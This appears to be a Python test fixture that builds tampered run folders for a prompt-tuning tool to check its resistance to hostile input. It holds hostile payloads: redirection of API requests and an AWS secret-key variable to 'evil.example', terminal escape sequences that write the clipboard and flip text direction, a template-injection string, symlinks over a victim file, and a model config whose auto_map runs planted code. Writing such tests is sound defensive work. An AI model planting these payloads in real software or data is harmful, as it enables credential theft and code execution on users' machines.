"""A run folder as a stranger might send it, and a server that notes whatever anybody sends it."""

from __future__ import annotations

import json
import socket
import sqlite3
import threading
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from askwell.core.types import Prompt
from askwell.runlog.codec import prompt_id

SECRET = "AKIA-TOPSECRET-VALUE"
EVIL = "http://evil.example/v1"
ESCAPES = "\x1b]52;c;ZWNobw==\x1b\\\x1b[2J\x9b31m\x07\x7f\u202e"
"""Write the clipboard, clear the screen, colour, bell, delete, and reverse the reading direction."""
MARKUP = "[/x][red]name[/red]"
CODE = "{% endraw %}{{ range.constructor('return 7')() }}"
AUTO_MAP = {"AutoModelForCausalLM": "evil.Model", "AutoConfig": "evil.Config", "AutoTokenizer": ["evil.T", None]}


@contextmanager
def listening() -> Generator[tuple[int, list[bytes]]]:
    """Yield the port of a server and what it received. As a proxy it sees what goes to any host but this machine."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                received.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield server.getsockname()[1], received
    finally:
        server.close()


def make_hostile(folder: Path, *, base_url: str = EVIL, key_env: str = "AWS_SECRET_ACCESS_KEY") -> None:
    """Change a run's log: where requests and keys go, and every text a person or another tool reads."""
    with sqlite3.connect(folder / "log.db") as database:
        rows = {position: json.loads(body) for position, body in database.execute("SELECT position, body FROM events")}
        kinds = dict(database.execute("SELECT position, kind FROM events"))
        ids: dict[str, str] = {}
        for position, body in rows.items():
            rewrite_body(kinds[position], body, ids, base_url, key_env)
        for position, body in rows.items():
            text = json.dumps(body)
            for old, new in ids.items():
                text = text.replace(old, new)
            database.execute("UPDATE events SET body = ? WHERE position = ?", (text, position))
    database.close()


def rewrite_body(kind: str, body: dict[str, Any], ids: dict[str, str], base_url: str, key_env: str) -> None:
    if kind == "run":
        body["config"]["name"] = MARKUP + ESCAPES
        for role in ("target", "optimizer_model"):
            body["settings"][role] |= {"base_url": base_url, "api_key_env": key_env, "model": "openai:tiny"}
    elif kind == "prompt":
        old = body["id"]
        body["instruction"] += f" {CODE}{ESCAPES}"
        ids[old] = body["id"] = prompt_id(Prompt(instruction=body["instruction"]))
    elif kind == "rollout":
        body["completion"]["text"] += ESCAPES
        if body["score"] is not None:
            body["score"][1:] = [MARKUP + ESCAPES, ESCAPES]
    elif kind == "result":
        body["reason"] += ESCAPES


def add_links(folder: Path, victim: Path) -> None:
    """Put links to a user's file where commands write."""
    for name in ("report.html", "report.md"):
        (folder / name).symlink_to(victim)


def add_policy(folder: Path, canary: Path) -> None:
    """Add a policy whose model's folder asks to run its own code."""
    base = folder / "policy" / "writer" / "base"
    base.mkdir(parents=True)
    code = f"open({str(canary)!r}, 'w').write('ran')\nclass Model: ...\nclass Config: ...\nclass T: ...\n"
    (base / "evil.py").write_text(code, encoding="utf-8")
    config = {"model_type": "evil", "auto_map": AUTO_MAP, "architectures": ["Model"]}
    for name in ("config.json", "tokenizer_config.json"):
        (base / name).write_text(json.dumps(config), encoding="utf-8")
    guard = {"margin": "always", "gain": 0.0, "error": 0.0, "switched": 1.0, "queries": 0}
    policy = {"format": 1, "kind": "writer", "prompt": {"id": "x", "instruction": "Answer."}, "guard": guard}
    write(folder / "policy" / "policy.json", {**policy, "samples": 0, "seed": 0})
    add_writer(folder / "policy" / "writer")


def add_writer(folder: Path, **model: object) -> None:
    """Write the files of a policy's language model, without its base."""
    settings = {"base": "gpt2", "conditioning": "embedding", "lora_rank": 0, **model}
    limits = {"max_query_tokens": 32, "max_prompt_tokens": 12, "device": ""}
    scale = {"mean": 0.0, "spread": 1.0, "target": 1.0, "edges": [0.0]}
    sampling = {"top_k": 2, "top_p": 0.9, "temperature": 1.0}
    write(folder / "policy.json", {"format": 2, "model": {**settings, **limits}, "scale": scale, "sampling": sampling})
    header = b'{"x":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    (folder / "policy.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + b"\0" * 4)


def write(path: Path, body: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(body), encoding="utf-8")
